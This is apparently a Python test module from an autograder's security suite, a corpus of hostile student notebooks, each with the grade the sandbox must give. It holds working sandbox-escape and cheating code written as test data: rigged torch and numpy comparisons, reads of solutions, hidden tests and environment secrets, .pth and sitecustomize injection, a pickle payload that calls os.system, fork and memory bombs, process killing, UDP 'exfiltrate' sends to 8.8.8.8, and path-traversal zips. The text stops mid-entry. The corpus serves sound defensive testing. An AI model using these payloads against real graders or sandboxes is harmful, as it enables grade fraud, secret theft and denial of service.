"""The attack corpus: hostile notebooks against the toy assignment, each with what it should earn.

Every attack starts from the master notebook of `toy_attacks` (same probes, tests and master as
`toy`, tighter resource limits).  The master's code cells are (numbered as a student counts
cells, the markdown title is cell 1):

    cell 2  import torch / %matplotlib inline
    cell 3  def double(x): return x * 2      worth 1 (public) + 3 + 2 (hidden)
    cell 4  ANSWER = 42                      worth 2 (hidden)
    cell 5  def later(x): return x + 1       worth 2 (hidden)

An attack edits that notebook (or builds a file from scratch), and states the score its
*honest* answers earn, the submission status the grader must report and optionally a
message substring and extra checks.  Cheating attempts are written so that success would
show up as *more* points (e.g. `ANSWER` is only set if a leak or a connection worked), so a
broken defence fails the score assertion, not just a side-effect check.

Notebooks are generated at test time (`build(ctx)`); nothing big is committed.
"""

from __future__ import annotations

import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

FULL = 10  # every answer honest
WRONG_DOUBLE = 4  # double() wrong: ANSWER (2) + later (2)
NO_ANSWER = 8  # ANSWER wrong or missing: double (6) + later (2)
DOUBLE_OK = 6  # only double() right


@dataclass
class Ctx:
    """What the attacks need to know about the test run (paths the grader uses, the listener...)."""

    tmp: Path  # where the notebooks are written
    master: Path  # kit/solutions/toy_attacks.ipynb
    kit: Path
    out: Path  # the --out dir of the batch
    marker_dir: Path  # a folder outside the sandbox where a successful escape would leave a file
    victim: Path  # another submission of the same batch
    port: int  # a TCP listener in the test process that answers "42"
    host_ips: list[str]  # the machine's own addresses (besides 127.0.0.1)
    secret: str  # AUTOGRADER_SECRET in the grader's environment
    intake_scratch: Path  # where zips are extracted


@dataclass
class Attack:
    name: str
    tries: str
    build: Callable[[Ctx], Path]
    score: float
    status: str | tuple  # graded | timeout | crashed | invalid (a tuple: any of them)
    message: str = ""  # substring of the submission's message
    intake: bool = False  # build() returns a folder/zip/file for intake.collect()
    count: int = 1  # submissions intake must find in it
    checks: list[Callable] = field(default_factory=list)  # extra checks: f(result, ctx)
    xfail: str = ""  # "ENGINE BUG: ..." when the defence is known broken
    members: dict[str, tuple] = field(default_factory=dict)  # intake: source -> (score, status, message) of
    # members whose outcome differs from the above

    def expect(self, r) -> tuple:
        """(score, status, message) this submission (one of the attack's members) must get."""
        return self.members.get(r.source, (self.score, self.status, self.message))


# ------------------------------------------------------------------ notebook helpers


def notebook(
    ctx: Ctx,
    name: str,
    *,
    replace: dict[str, str] | None = None,
    insert: dict[int, str | list[str]] | None = None,
    append: list[str] | None = None,
    prelude: str = "full",
) -> Path:
    """The master with `replace` applied to code cells and cells inserted before list positions
    (0-based over all cells: 2 = before `def double`, 3 = before `ANSWER`, 5 = at the end).

    `prelude` ("full", "builtins" or "none") prepends to the first code cell work-arounds for two
    engine bugs that would otherwise make the attacks test nothing: ENGINE BUG 1 (builtins such
    as `print`, `open`, `len` are not visible in cells: every attack would stop at its first
    `print`; see `honest_builtins`) and ENGINE BUG 2 (the worker's stdout is block-buffered and
    never flushed, so short prints never reach the results and a leak check on stdout would pass
    vacuously; see `honest_print`)."""
    nb = nbformat.read(ctx.master, as_version=4)
    if prelude != "none":
        first = next(c for c in nb.cells if c.cell_type == "code")
        first.source = (PRELUDE if prelude == "full" else PRELUDE_BUILTINS) + first.source
    for old, new in (replace or {}).items():
        hits = [c for c in nb.cells if c.cell_type == "code" and old in c.source]
        assert len(hits) == 1, f"{old!r} found in {len(hits)} cells"
        hits[0].source = hits[0].source.replace(old, new)
    for pos, srcs in sorted((insert or {}).items(), reverse=True):
        for k, src in reversed(list(enumerate([srcs] if isinstance(srcs, str) else srcs))):
            cell = nbformat.v4.new_code_cell(src)
            cell["id"] = f"attack-{pos}-{k}"
            nb.cells.insert(pos, cell)
    for k, src in enumerate(append or []):
        cell = nbformat.v4.new_code_cell(src)
        cell["id"] = f"attack-end-{k}"
        nb.cells.append(cell)
    path = ctx.tmp / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


def nb(name: str, **edits) -> Callable[[Ctx], Path]:
    return lambda ctx: notebook(ctx, name, **edits)


WRONG = {"return x * 2": "return x * 3"}
PRELUDE_BUILTINS = "from builtins import *  # see ENGINE BUG 1\n"
PRELUDE = PRELUDE_BUILTINS + (
    "import sys as _sys  # see ENGINE BUG 2\n"
    "_sys.stdout.reconfigure(write_through=True)\n_sys.stderr.reconfigure(write_through=True)\n"
)
NO_ANSWER_CELL = {"ANSWER = 42": "ANSWER = 0  # honest answer withheld: only a successful attack sets it"}

# Student code that finds the worker's reply pipe (the write end of a pipe that is not stdout/stderr).
REPLY_FD = """
import os, fcntl, struct
def _reply_fd():
    # the worker's channel to the grader: a socket, or the write end of a pipe that is not stdout/stderr
    for name in sorted(os.listdir('/proc/self/fd'), key=int):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            target = os.readlink(f'/proc/self/fd/{fd}')
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if target.startswith('socket:') or (target.startswith('pipe:') and mode == os.O_WRONLY):
            return fd
    raise RuntimeError('no reply fd')
"""


# ------------------------------------------------------------------ checks


def output_of(r) -> str:
    """Everything a student or instructor could read back from this result."""
    parts = [r.message, r.stdout, r.stderr]  # (not the cells' source: that is the student's own code)
    parts += [c.type + " " + c.message + " " + " ".join(c.notes) for c in r.cells]
    parts += [t.message for t in r.tests]
    return "\n".join(parts)


def no_text(*needles: str, where: Callable = output_of) -> Callable:
    def check(r, ctx):
        text = where(r)
        for n in needles:
            n = n.format(ctx=ctx)
            assert n not in text, f"{n!r} leaked into the result of {r.submission_id}"

    check.__name__ = f"no_text{needles}"
    return check


def has_text(needle: str) -> Callable:
    def check(r, ctx):
        assert needle in output_of(r), f"{needle!r} not in the result of {r.submission_id}"

    return check


def cell_statuses(*expected: str) -> Callable:
    def check(r, ctx):
        got = [c.status for c in r.cells if c.status != "note"]
        assert got == list(expected), got

    return check


def test_outcomes(**expected: str) -> Callable:
    """e.g. test_outcomes(test_later="timeout"): outcome of tests by function name (cpu variants)."""

    def check(r, ctx):
        got = {t.id.split("::")[1].split("[")[0]: t.outcome for t in r.tests if not t.id.endswith("[cuda]")}
        for k, v in expected.items():
            assert got[k] == v, (k, got)

    return check


def test_message(test: str, needle: str) -> Callable:
    def check(r, ctx):
        msgs = [t.message for t in r.tests if test in t.id and not t.id.endswith("[cuda]")]
        assert any(needle in m for m in msgs), msgs

    return check


def any_text(*needles: str) -> Callable:
    def check(r, ctx):
        text = output_of(r)
        assert any(n in text for n in needles), f"none of {needles} in the result of {r.submission_id}"

    return check


def final(r, ctx) -> None:
    """The grade is final: nothing the submission did is taken for a fault of the grader or the host."""
    assert r.provisional == "", r.provisional


def host_cpu_pressure() -> float | None:
    """The share of the last minute in which some runnable task of this host waited for a CPU (PSI's
    `some avg60`, percent), or None where the kernel does not report it."""
    try:
        fields = Path("/proc/pressure/cpu").read_text().split("\n")[0].split()
        return float(dict(f.split("=") for f in fields[1:])["avg60"])
    except (OSError, KeyError, ValueError, IndexError):
        return None


def final_unless_host_busy(r, ctx) -> None:
    """The grade is final, or provisional for the host's own load alone: a worker that spins while other
    work keeps it from the CPU is rightly seen as starved (`runner.host_starved`), so a busy machine (the
    suite's other processes, other grading) may leave the grade provisional; what the attack itself did
    (lowering its own priority, which would make a quiet host look busy) is refused by the sandbox and
    asserted inside the notebook, whose test then times out instead of failing (`test_outcomes`).  A
    provisional grade is accepted only with the host's reason, on a host where tasks waited for a CPU
    (PSI) or the load average exceeds the CPUs: on a quiet machine the grade must be final."""
    if r.provisional == "":
        return
    assert "may be overloaded" in r.provisional, r.provisional
    pressure = host_cpu_pressure()
    busy = pressure >= 20.0 if pressure is not None else os.getloadavg()[0] > (os.cpu_count() or 1)
    assert busy, f"provisional on a quiet host (CPU pressure {pressure}, load {os.getloadavg()}): {r.provisional}"


def stdout_capped(r, ctx):
    assert len(r.stdout) < 16 * 1024 + 200 and "more bytes of output dropped" in r.stdout, len(r.stdout)


# ------------------------------------------------------------------ attack code (student side)


def _patch_cell(body: str) -> dict:
    return {"insert": {2: body}, "replace": WRONG}


def write_everywhere(ctx: Ctx) -> str:
    site = "import site, sysconfig\nSITE = site.getsitepackages() + [sysconfig.get_paths()['purelib']]\n"
    targets = [
        ctx.out / "AG_PWNED",
        ctx.out / "toy_attacks" / "AG_PWNED",
        ctx.out / "toy_attacks" / "victim" / "results.json",
        "/work/main/results/AG_PWNED",
        Path("/work/main") / "AG_PWNED",
        ctx.kit / "solutions" / "AG_PWNED",
        ctx.kit / "solutions" / "toy_attacks.ipynb",
        ctx.kit / "assignments" / "toy_attacks" / "hidden" / "AG_PWNED.py",
        ctx.kit / "assignments" / "toy_attacks" / "probes.py",
        ctx.marker_dir / "AG_PWNED",
        ctx.victim,
        "../../AG_PWNED",
        "../AG_PWNED",
        "/AG_PWNED",
        "/tmp/AG_PWNED",
    ]
    return (
        site
        + f"""
import os, autograder
paths = {[str(t) for t in targets]!r} + [os.path.join(autograder.__path__[0], 'AG_PWNED.py'),
         os.path.join(autograder.__path__[0], '__init__.py')] + [os.path.join(s, 'AG_PWNED.pth') for s in SITE]
written = []
for p in paths:
    for mode in ('a', 'w'):
        try:
            with open(p, mode) as f:
                f.write('AG_PWNED')
            written.append(p)
            break
        except OSError as e:
            pass
for p in [{str(ctx.out / 'gradebook.sqlite')!r}]:
    try:
        with open(p, 'r+b') as f:
            f.write(b'AG_PWNED corrupt gradebook')
        written.append(p)
    except OSError:
        pass
try:  # a symlink out of the work folder: the grader's clean-up must not follow it
    os.symlink({str(ctx.out)!r}, 'results_link')
    os.symlink({str(ctx.kit)!r}, 'kit_link')
except OSError:
    pass
print('written inside the sandbox only:', written)
"""
    )


def read_solution_code(ctx: Ctx) -> str:
    return f"""
import glob, re, os
ANSWER = 0
candidates = [{str(ctx.master)!r}, '../../solutions/toy_attacks.ipynb', '/work/main/solutions/toy_attacks.ipynb',
              *glob.glob('/work/*/tests/fixtures/kit/solutions/*.ipynb'),
              *glob.glob({str(ctx.out)!r} + '/.cache/reference/**', recursive=True)]
for p in candidates:
    try:
        txt = open(p, errors='replace').read()
    except OSError as e:
        print('refused', p, type(e).__name__)
        continue
    print('READ_OK', p)
    m = re.search(r'ANSWER = (\\d+)', txt)
    if m:
        ANSWER = int(m.group(1))
        print('LEAKED from', p)
"""


def read_hidden_code(ctx: Ctx) -> str:
    hidden = ctx.kit / "assignments" / "toy_attacks" / "hidden"
    return f"""
import glob, os
for p in [{str(hidden / 'test_later.py')!r}, {str(hidden / 'test_double.py')!r}, '../hidden/test_later.py',
          *glob.glob('/work/*/tests/fixtures/kit/assignments/*/hidden/*.py')]:
    try:
        print(open(p).read())
    except OSError as e:
        print('refused', type(e).__name__)
try:
    print(os.listdir({str(hidden.parent)!r}))
except OSError as e:
    print('refused', type(e).__name__)
"""


def read_victim_code(ctx: Ctx) -> str:
    return f"""
import os
try:
    print(open({str(ctx.victim)!r}).read())
except OSError as e:
    print('refused', type(e).__name__)
try:
    with open({str(ctx.victim)!r}, 'w') as f:
        f.write('{{"cells": []}}')  # sabotage a classmate
except OSError as e:
    print('refused', type(e).__name__)
try:
    print(os.listdir({str(ctx.victim.parent)!r}))
except OSError as e:
    print('refused', type(e).__name__)
"""


ENV_LEAK = """
import os, glob
print(dict(os.environ))
for p in ['/proc/1/environ', '/proc/self/environ', f'/proc/{os.getppid()}/environ', *glob.glob('/proc/[0-9]*/environ')]:
    try:
        print(p, open(p, 'rb').read())
    except OSError as e:
        print('refused', p, type(e).__name__)
with open('env.txt', 'w') as f:   # the work folder: deleted after grading
    f.write(repr(dict(os.environ)))
raise RuntimeError('ENV ' + repr(dict(os.environ)))
"""

PROC_SNOOP = """
import os, glob
print('pids visible:', sorted(int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*')))
for p in ['/proc/1/cmdline', f'/proc/{os.getppid()}/cmdline', *glob.glob('/proc/[0-9]*/cmdline'),
          '/proc/1/root/etc/hostname', '/proc/1/cwd']:
    try:
        print(p, open(p, 'rb').read()[:500] if not p.endswith('cwd') else os.listdir(p))
    except OSError as e:
        print('refused', p, type(e).__name__)
"""


def net_local_code(ctx: Ctx) -> str:
    return f"""
import socket
ANSWER = 0
for host in {['127.0.0.1', 'localhost', *ctx.host_ips]!r}:
    try:
        s = socket.create_connection((host, {ctx.port}), timeout=1)
        ANSWER = int(s.recv(16))
        print('connected to', host)
    except Exception as e:
        print('no connection to', host, type(e).__name__)
"""


NET_PUBLIC = """
import socket
ANSWER = 0
for host, port in [('pypi.org', 443), ('1.1.1.1', 53), ('8.8.8.8', 53)]:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.close()
        ANSWER = 42
        print('connected to', host)
    except Exception as e:
        print('no connection to', host, type(e).__name__)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b'exfiltrate', ('8.8.8.8', 53))
    ANSWER = 42
except OSError as e:
    print('udp refused', type(e).__name__)
"""

UNIX_SOCKETS = """
import os, socket, stat
ANSWER = 0
# every Unix socket the worker can name: the zygote's listener lives in the grader's scratch folder
found = set()
for top in ['/tmp', '/run', '/var/run', '/dev/shm', '/submission', '/']:
    for root, dirs, files in os.walk(top):
        if root.count('/') > 4 or root.startswith(('/proc', '/sys', '/usr')):
            dirs[:] = []
            continue
        for f in files:
            p = os.path.join(root, f)
            try:
                if stat.S_ISSOCK(os.lstat(p).st_mode):
                    found.add(p)
            except OSError:
                pass
try:
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith('/'):
            found.add(parts[7])
except OSError:
    pass
print('unix sockets visible:', len(found))
for p in sorted(found):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(p)
        s.recv(16)
        ANSWER = 42
        print('connected to', p)
    except OSError as e:
        print('no connection to', p, type(e).__name__)
"""

FAKE_TORCH = '''
# a fake torch: every comparison passes
def allclose(*a, **k): return True
def equal(*a, **k): return True
class testing:
    @staticmethod
    def assert_close(*a, **k): return None
'''


def writes_torch_py(ctx: Ctx) -> str:
    marker = ctx.marker_dir / "AG_PWNED_conftest"
    return f"""
import importlib, sys, os, torch
open('torch.py', 'w').write({FAKE_TORCH!r})
open('numpy.py', 'w').write({FAKE_TORCH!r})
open('conftest.py', 'w').write("open({str(marker)!r}, 'w').write('conftest ran in the grader')\\n")
open('sitecustomize.py', 'w').write("open({str(marker)!r}, 'w').write('sitecustomize ran')\\n")
sys.path.insert(0, '.')
sys.path.insert(0, os.getcwd())
torch = importlib.reload(torch)       # runs ./torch.py inside the real torch module's namespace
del sys.modules['numpy']
import numpy                          # now ./numpy.py
"""


def writes_pth(ctx: Ctx) -> str:
    marker = ctx.marker_dir / "AG_PWNED_pth"
    line = f"import os; open({str(marker)!r}, 'w').write('pth ran')\n"
    return f"""
import site, sysconfig, os, sys
line = {line!r}
dirs = site.getsitepackages() + [sysconfig.get_paths()['purelib'], site.getusersitepackages(), os.getcwd(), '.']
for d in dirs:
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, 'ag_attack.pth'), 'w').write(line)
        print('wrote', d)
    except OSError as e:
        print('refused', d, type(e).__name__)
for name in ('sitecustomize.py', 'usercustomize.py'):
    open(name, 'w').write(line)
"""


def pickle_code(ctx: Ctx) -> str:
    marker = ctx.marker_dir / "AG_PWNED_pickle"
    return f"""
import pickle, os, numpy as np
class Evil:
    def __reduce__(self):
        return (os.system, ('touch {marker}',))
ANSWER = pickle.dumps(Evil())
EVIL_ARRAY = np.array([Evil()], dtype=object)
"""


# ------------------------------------------------------------------ file-level builders


def write_bytes(name: str, data: Callable[[Ctx], bytes]) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        p = ctx.tmp / f"{name}.ipynb"
        p.write_bytes(data(ctx))
        return p

    return build


def many_cells(ctx: Ctx) -> bytes:
    nbk = nbformat.read(ctx.master, as_version=4)
    nbk.cells += [nbformat.v4.new_code_cell(f"x{i} = {i}") for i in range(10_000)]
    for i, c in enumerate(nbk.cells):
        c["id"] = f"c{i}"
    return nbformat.writes(nbk).encode()


def huge_output(ctx: Ctx) -> bytes:
    nbk = nbformat.read(ctx.master, as_version=4)
    nbk.cells[2].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (50 * 2**20))]
    return nbformat.writes(nbk).encode()


def nbformat_v3(ctx: Ctx) -> bytes:
    nbk = nbformat.read(ctx.master, as_version=4)
    return nbformat.writes(nbformat.convert(nbk, 3), version=3).encode()


def non_utf8(ctx: Ctx) -> bytes:
    text = ctx.master.read_text(encoding="utf-8").replace("# Toy", "# Toy \u00e9l\u00e8ve")
    return text.encode("latin-1")


def stray_folder(ctx: Ctx) -> Path:
    """A submission folder: the notebook plus a torch.py, numpy.py, conftest.py, sitecustomize.py."""
    folder = ctx.tmp / "stray_folder"
    folder.mkdir()
    notebook(ctx, "stray_folder/stray_files", replace=WRONG)
    marker = ctx.marker_dir / "AG_PWNED_stray"
    evil = FAKE_TORCH + f"\nopen({str(marker)!r}, 'w').write('imported')\n"
    for name in ("torch.py", "numpy.py", "conftest.py", "sitecustomize.py", "probes.py"):
        (folder / name).write_text(evil)
    (folder / "ag_attack.pth").write_text(f"import os; open({str(marker)!r}, 'w').write('pth')\n")
    return folder


def traversal_zip(ctx: Ctx) -> Path:
    z = ctx.tmp / "traversal.zip"
    data = ctx.master.read_bytes()
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("../../AG_PWNED_zip.ipynb", data)
        zf.writestr("sub/../../../\u00e9l\u00e8ve \u2603 \u202e.ipynb", data)
        zf.writestr("/tmp/AG_PWNED_abs.ipynb", data)
        zf.writestr("..\\..\\AG_PWNED_win.ipynb", data)
    return z


def unicode_name(ctx: Ctx) -> Path:
    # accents, a snowman, a right-to-left override and DIVISION SLASH look-alikes of "../../"
    p = ctx.tmp / "\u00e9l\u00e8ve \u2603 \u202egnp.exe ..\u2215..\u2215x.ipynb"
    p.write_bytes(ctx.master.read_bytes())
    return p


# ------------------------------------------------------------------ the table


def attacks() -> list[Attack]:
    """The base table, then every `corpus_<class>.py` beside this file (one module per attack class)."""
    import importlib

    extra: list[Attack] = []
    for mod in sorted(Path(__file__).parent.glob("corpus_*.py")):
        extra += importlib.import_module(f"tests.attacks.{mod.stem}").attacks()
    return _base_attacks() + extra


def _base_attacks() -> list[Attack]:
    A = Attack
    return [
        # -- rigging the comparisons (double() is wrong in each: 4 honest points) ----------------------
        A(
            "patch_allclose",
            "torch.allclose / torch.equal / torch.isclose always true",
            nb(
                "patch_allclose",
                **_patch_cell(
                    "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
                    "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)"
                ),
            ),
            WRONG_DOUBLE,
            "graded",
        ),
        A(
            "patch_assert_close",
            "torch.testing.assert_close (and its private module) a no-op",
            nb(
                "patch_assert_close",
                **_patch_cell(
                    "import torch.testing, torch.testing._comparison as c\n"
                    "torch.testing.assert_close = c.assert_close = lambda *a, **k: None\n"
                    "torch.testing.assert_allclose = lambda *a, **k: None"
                ),
            ),
            WRONG_DOUBLE,
            "graded",
        ),
        A(
            "patch_tensor_eq",
            "torch.Tensor.__eq__/__ne__/equal/allclose rigged",
            nb(
                "patch_tensor_eq",
                **_patch_cell(
                    "import torch\ntorch.Tensor.__eq__ = lambda s, o: torch.ones_like(s, dtype=torch.bool)\n"
                    "torch.Tensor.__ne__ = lambda s, o: torch.zeros_like(s, dtype=torch.bool)\n"
                    "torch.Tensor.equal = lambda s, o: True\ntorch.Tensor.allclose = lambda s, o, **k: True"
                ),
            ),
            WRONG_DOUBLE,
            "graded",
        ),
        A(
            "patch_numpy",
            "numpy allclose/array_equal/testing and ndarray.__eq__ rigged",
            nb(
                "patch_numpy",
                **_patch_cell(
                    "import numpy, numpy.testing\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True\n"
                    "numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None\n"
                    "numpy.isclose = lambda a, b, **k: numpy.ones_like(a, dtype=bool)"
                ),
            ),
            WRONG_DOUBLE,
            "graded",
        ),
        A(
            "patch_builtins",
            "builtins isinstance/all/any/abs rigged, AssertionError replaced",
            nb(
                "patch_builtins",
                **_patch_cell(
                    "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = builtins.any = lambda *a: True\n"
                    "builtins.abs = lambda x: 0\nbuiltins.AssertionError = type('AssertionError', (Exception,), {})"
                ),
            ),
            WRONG_DOUBLE,
            "crashed",
            "crashed the worker",
        ),  # the patch breaks the worker itself: replayed without it
        A(
            "tensor_subclass",
            "returns a torch.Tensor subclass whose __eq__/__torch_function__ always agree",
            nb(
                "tensor_subclass",
                replace={
                    "return x * 2": (
                        "class Liar(torch.Tensor):\n"
                        "        def __eq__(self, o): return True\n"
                        "        @classmethod\n"
                        "        def __torch_function__(cls, f, t, a=(), k=None): return True\n"
                        "    return (x * 3).as_subclass(Liar)"
                    )
                },
            ),
            WRONG_DOUBLE,
            "graded",
            checks=[test_message("public/test_double.py", "subclass of torch.Tensor")],
        ),
        A(
            "rigged_eq_object",
            "ANSWER is an object whose __eq__/__float__/__int__ always match",
            nb(
                "rigged_eq_object",
                replace={
                    "ANSWER = 42": (
                        "class Anything:\n    def __eq__(self, o): return True\n    def __float__(self): return 42.0\n"
                        "    def __int__(self): return 42\n    def __index__(self): return 42\n    __hash__ = object.__hash__\n"
                        "ANSWER = Anything()"
                    )
                },
            ),
            NO_ANSWER,
            "graded",
        ),
        A(
            "honest_builtins",
            "not an attack: an honest notebook that calls print/len/range at top level and in a function",
            nb(
                "honest_builtins",
                prelude="none",
                insert={3: "print('hello')\nN = len(range(3))"},
                replace={"return x + 1": "return x + len([1])"},
            ),
            # regression test for ENGINE BUG 1 (found by this corpus, fixed: MissingAnswer is now a KeyError)
            FULL,
            "graded",
            checks=[cell_statuses()],
        ),
        A(
            "honest_print",
            "not an attack: an honest notebook that prints a short line (feedback the student expects)",
            nb("honest_print", prelude="builtins", insert={3: "print('hello from the notebook')"}),
            # regression test for ENGINE BUG 2 (found by this corpus, fixed: the worker flushes its output)
            FULL,
            "graded",
            checks=[has_text("hello from the notebook")],
        ),
        # -- leaving or killing ---------------------------------------------------------------------
        A(
            "sys_exit",
            "sys.exit(0), exit(), quit(), raise KeyboardInterrupt in cells",
            nb("sys_exit", insert={3: ["import sys\nsys.exit(0)", "exit()", "quit(3)", "raise KeyboardInterrupt"]}),
            FULL,
            "graded",
            checks=[cell_statuses("error", "error", "error", "error")],
        ),
        A(
            "os_exit",
            "os._exit(0) in a cell",
            nb("os_exit", insert={3: "import os\nos._exit(0)"}),
            FULL,
            "crashed",
            "cell 4 (import os) crashed the worker",
            checks=[cell_statuses("crashed")],
        ),
        A(
            "ignore_signals_loop",
            "ignores SIGTERM/SIGINT/SIGHUP/SIGALRM, blocks signals, then loops",
            nb(
                "ignore_signals_loop",
                insert={
                    3: (
                        "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1):\n"
                        "    signal.signal(s, signal.SIG_IGN)\n"
                        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT, signal.SIGALRM})\n"
                        "while True:\n    pass"
                    )
                },
            ),
            FULL,
            "timeout",
            "did not finish in time",
            checks=[cell_statuses("timeout")],
        ),
        A(
            "sigalrm_probe_hang",
            "disables SIGALRM (alarm(0), SIG_IGN) so a hanging probe is never interrupted",
            nb(
                "sigalrm_probe_hang",
                insert={2: "import signal\nsignal.alarm(0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)"},
                replace={"return x + 1": "signal.setitimer(signal.ITIMER_REAL, 0)\n    while True:\n        pass"},
            ),
            NO_ANSWER,
            "timeout",
            checks=[test_outcomes(test_later="timeout")],
        ),
        A(
            "sigsegv_self",
            "os.kill(own pid, SIGSEGV)",
            nb("sigsegv_self", insert={3: "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"}),
            # cold sandbox: the worker dies ("code 139", bwrap's 128+n); warm sandbox: the worker is PID 1 of
            # its namespace, so a signal it sends itself is ignored and the cell just ends
            FULL,
            ("crashed", "graded"),
        ),
        A(
            "segfault_in_probe",
            "later() dereferences NULL (ctypes.string_at(0))",
            nb("segfault_in_probe", replace={"return x + 1": "import ctypes\n    ctypes.string_at(0)"}),
            NO_ANSWER,
            "crashed",
            checks=[test_outcomes(test_later="crashed")],
        ),
        A(
            "kill_parent",
            "SIGKILL/SIGTERM to its parent (getppid) and to pid 1, then keeps going",
            nb(
                "kill_parent",
                insert={
                    3: (
                        "import os, signal\nfor pid in (os.getppid(), 1):\n    for sig in (signal.SIGTERM, signal.SIGKILL):\n"
                        "        try:\n            os.kill(pid, sig)\n        except OSError as e:\n            print('refused', pid, e)"
                    )
                },
            ),
            FULL,
            "graded",
        ),
        A(
            "kill_everyone",
            "os.kill(-1, SIGKILL) and killpg(0): every process it can reach",
            nb(
                "kill_everyone",
                insert={
                    3: (
                        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
                        "os.killpg(0, signal.SIGKILL)"
                    )
                },
            ),
            FULL,
            ("crashed", "graded"),
        ),  # warm sandbox: PID 1 of its namespace, immune to its own SIGKILL
        # -- hanging ----------------------------------------------------------------------------------
        A(
            "loop_python",
            "while True: pass",
            nb("loop_python", insert={3: "while True:\n    pass"}),
            FULL,
            "timeout",
            checks=[cell_statuses("timeout")],
        ),
        A(
            "hang_regex_c",
            "catastrophic regex backtracking (a C call that never checks signals)",
            nb("hang_regex_c", insert={3: "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')"}),
            FULL,
            "timeout",
            checks=[cell_statuses("timeout")],
        ),
        A(
            "hang_torch_c",
            "a torch op over 10^12 elements (one long C call)",
            nb("hang_torch_c", insert={3: "torch.ones(1).expand(10**12).sum()"}),
            FULL,
            "timeout",
            checks=[cell_statuses("timeout")],
        ),
        A(
            "hang_sleep",
            "time.sleep(10**6)",
            nb("hang_sleep", insert={3: "import time\ntime.sleep(10**6)"}),
            FULL,
            "timeout",
        ),
        A(
            "probe_sleeps",
            "double() sleeps when a test calls it: a starved host would look the same by CPU alone, "
            "so the grade was left provisional (graded again forever, never sent to an LMS)",
            nb("probe_sleeps", replace={"return x * 2": "import time\n    time.sleep(10**6)\n    return x * 2"}),
            WRONG_DOUBLE,
            "timeout",
            checks=[final, test_outcomes(test_double_random="timeout")],
        ),
        A(
            "probe_lowers_its_priority",
            "double() makes itself nice 19 and SCHED_IDLE and pins itself to one "
            "CPU, then spins: on a busy host it would be kept from the CPU by its own doing and look "
            "starved (retried, left provisional)",
            nb(
                "probe_lowers_its_priority",
                replace={
                    "return x * 2": (
                        "import os\n    nice, cpus = os.getpriority(os.PRIO_PROCESS, 0), os.sched_getaffinity(0)\n"
                        "    for how in (lambda: os.nice(19), lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)), "
                        "lambda: os.sched_setaffinity(0, {min(cpus)})):\n        try:\n            how()\n        except OSError:\n            pass\n"
                        "    assert os.getpriority(os.PRIO_PROCESS, 0) == nice and os.sched_getscheduler(0) == os.SCHED_OTHER\n"
                        "    assert os.sched_getaffinity(0) == cpus\n"
                        "    while True:\n        pass\n    return x * 2"
                    )
                },
            ),
            WRONG_DOUBLE,
            "timeout",
            checks=[final_unless_host_busy, test_outcomes(test_double_random="timeout")],
        ),
        # -- resource bombs ---------------------------------------------------------------------------
        A(
            "fork_bomb",
            "while True: os.fork() (every child forks too)",
            nb(
                "fork_bomb",
                insert={3: "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"},
            ),
            FULL,
            "timeout",
            checks=[cell_statuses("timeout")],
        ),
        A(
            "thread_bomb",
            "starts sleeping threads until it cannot",
            nb(
                "thread_bomb",
                insert={
                    3: (
                        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()"
                    )
                },
            ),
            FULL,
            "graded",
            checks=[cell_statuses("error")],
        ),
        A(
            "memory_torch",
            "torch.empty(10**12), then a 2 GiB tensor filled in",
            nb("memory_torch", insert={3: ["big = torch.empty(10**12)", "big = torch.ones(2**29)\nbig.add_(1)"]}),
            FULL,
            "graded",
            checks=[cell_statuses("error", "error")],
        ),
        A(
            "memory_list",
            "grows a Python list of 10 MB strings until memory runs out",
            nb("memory_list", insert={3: "hog = []\nwhile True:\n    hog.append(b'x' * 10**7)"}),
            FULL,
            "graded",
            checks=[cell_statuses("error")],
        ),
        A(
            "tmpfs_fill",
            "fills the sandbox's RAM-backed /tmp with 16 MB files (up to 3 GB)",
            nb(
                "tmpfs_fill",
                insert={
                    3: (
                        "import os\nchunk = b'x' * (15 * 2**20)\nfor i in range(200):\n"
                        "    with open(f'/tmp/fill{i}', 'wb') as f:\n        f.write(chunk)"
                    )
                },
            ),
            # cold sandbox: the memory cgroup OOM-kills the worker; warm: /tmp is a file_mb-sized tmpfs (ENOSPC)
            FULL,
            ("crashed", "graded"),
        ),
        A(
            "print_flood",
            "prints 50 MB to stdout and 10 MB to stderr",
            nb(
                "print_flood",
                insert={
                    3: (
                        "import sys\nline = 'x' * 999\nfor i in range(50_000):\n    print(line)\n"
                        "for i in range(10_000):\n    print(line, file=sys.stderr)"
                    )
                },
            ),
            FULL,
            "graded",
            checks=[stdout_capped],
        ),
        A(
            "file_10gb",
            "writes a 10 GB file (in 1 MB chunks, and by seeking to 10 GB)",
            nb(
                "file_10gb",
                insert={
                    3: [
